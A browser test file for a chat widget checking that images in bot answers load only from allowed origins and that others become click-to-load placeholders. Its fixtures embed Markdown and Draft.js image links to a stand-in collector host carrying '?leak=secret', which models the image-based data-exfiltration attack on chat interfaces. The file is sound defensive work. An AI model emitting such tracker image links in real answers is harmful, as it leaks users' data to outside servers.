// Issue 11, item 1: images in answers load only from the allowed origins (`image-origins`,
// default the API origin); any other is a placeholder that loads when the visitor asks, and a
// relative or non-web image URL never loads. Same rule for Markdown and Draft.js.
import { expect, fixture, html } from '@open-wc/testing';
import '../../src/alli-chat.js';
import type { AlliChatElement } from '../../src/ui/alli-chat.element.js';
import type { ConversationEvent } from '../../src/model/stream-events.js';
import { botNode, conversation, done } from '../helpers/scripted-alli.js';
import { until } from '../helpers/widget.js';
import { hostileAlli, settle, type ScriptedTurn } from './hostile-alli.js';

const MARKDOWN = [
  'Inline ![tracker](https://collector.example/p.png?leak=secret) here.',
  '',
  'Reference ![ref][r] here.',
  '',
  '[r]: https://collector.example/ref.png?leak=secret',
  '',
  'Relative ![rel](/cookies.png) and ![proto](//host.example/x.png) and ![data](data:image/png;base64,AAAA).',
  '',
  'Allowed ![ok](https://alli.test/logo.png) and ![cdn](https://cdn.test/c.png).',
].join('\n');

const atomic = (key: number) => ({ key: `b${key}`, text: ' ', type: 'atomic', depth: 0, inlineStyleRanges: [], entityRanges: [{ offset: 0, length: 1, key }], data: {} });
const DRAFT = JSON.stringify({
  blocks: [atomic(0), atomic(1), atomic(2)],
  entityMap: {
    0: { type: 'IMAGE', mutability: 'IMMUTABLE', data: { src: 'https://collector.example/d.png?leak=secret', alt: 'draft tracker' } },
    1: { type: 'IMAGE', mutability: 'IMMUTABLE', data: { src: '/relative.png', alt: 'draft relative' } },
    2: { type: 'IMAGE', mutability: 'IMMUTABLE', data: { src: 'https://alli.test/d.png', alt: 'draft ok' } },
  },
});

function turn(): ConversationEvent[] {
  return [
    conversation(),
    { type: 'response', response: botNode('md', MARKDOWN, { messageFormat: 'markdown' }) },
    { type: 'response', response: botNode('dj', DRAFT, { messageFormat: 'draftjs' }) },
    done(),
  ];
}

async function mount(turns: ScriptedTurn[], origins?: string) {
  sessionStorage.clear();
  const alli = hostileAlli(turns);
  const el = await fixture<AlliChatElement>(
    html`<alli-chat app-id="security" api-base="https://alli.test" image-origins=${origins ?? ''} token-url="/alli/token" persist="none"
      .fetch=${alli.fetch} style="height: 640px"></alli-chat>`,
  );
  return { el, shadow: el.shadowRoot! };
}

const sources = (root: ParentNode) => [...root.querySelectorAll('img')].map((img) => img.getAttribute('src'));

describe('images in answers (issue 11, item 1)', () => {
  it('by default only the API origin loads; other images wait for a click; relative ones never load', async () => {
    const { el, shadow } = await mount([turn()]);
    await until(() => shadow.querySelector('[data-node="dj"] .bubble')?.textContent?.includes('draft'), 'both messages');
    await settle(el);
    const md = shadow.querySelector('[data-node="md"] .bubble')!;
    const dj = shadow.querySelector('[data-node="dj"] .bubble')!;
    expect(sources(md)).to.deep.equal(['https://alli.test/logo.png']);
    expect(sources(dj)).to.deep.equal(['https://alli.test/d.png']);
    // Performance entries prove no request left for the collector or the host page's paths.
    const fetched = performance.getEntriesByType('resource').map((e) => e.name);
    expect(fetched.filter((name) => /collector\.example|cookies\.png|relative\.png|host\.example/.test(name))).to.deep.equal([]);

    const buttons = [...shadow.querySelectorAll<HTMLButtonElement>('.alli-image button')];
    expect(buttons.map((b) => b.textContent)).to.deep.equal([
      'Show image from collector.example',
      'Show image from collector.example',
      'Show image from cdn.test',
      'Show image from collector.example',
    ]);
    const placeholder = md.querySelector('.alli-image')!;
    expect(placeholder.textContent).to.include('tracker').and.include('collector.example');
    expect(md.textContent).to.include('rel').and.include('proto').and.include('data');
    expect(dj.textContent).to.include('draft relative');

    buttons[0].click();
    expect(sources(md)).to.include('https://collector.example/p.png?leak=secret');
    expect(md.querySelector('img[src*="collector"]')!.getAttribute('referrerpolicy')).to.equal('no-referrer');
  });

  it('image-origins replaces the default list', async () => {
    const { el, shadow } = await mount([turn()], 'https://cdn.test');
    await until(() => shadow.querySelector('[data-node="dj"] .bubble')?.textContent?.includes('draft'), 'both messages');
    await settle(el);
    expect(sources(shadow.querySelector('[data-node="md"] .bubble')!)).to.deep.equal(['https://cdn.test/c.png']);
    expect(sources(shadow.querySelector('[data-node="dj"] .bubble')!)).to.deep.equal([]);
  });

  it('a streamed Markdown image from another origin is a placeholder too', async () => {
    const { el, shadow } = await mount([
      {
        chunks: [
          [conversation(), { type: 'response', response: botNode('s', '', { type: 'llm', messageFormat: 'markdown', completed: false }) }],
          [{ type: 'delta', id: 's', delta: 'Look ![x](https://collector.example/s.png) ' }],
          [{ type: 'delta', id: 's', delta: 'and more text' }],
          [{ type: 'final', responseId: 's', content: 'Look ![x](https://collector.example/s.png) and more text' }, done()],
        ],
      },
    ]);
    await until(() => shadow.querySelector('[data-node="s"] .bubble')?.textContent?.includes('more text'), 'the streamed answer');
    await settle(el);
    expect(sources(shadow)).to.deep.equal([]);
    expect(shadow.querySelector('[data-node="s"] .alli-image button')!.textContent).to.equal('Show image from collector.example');
  });
});
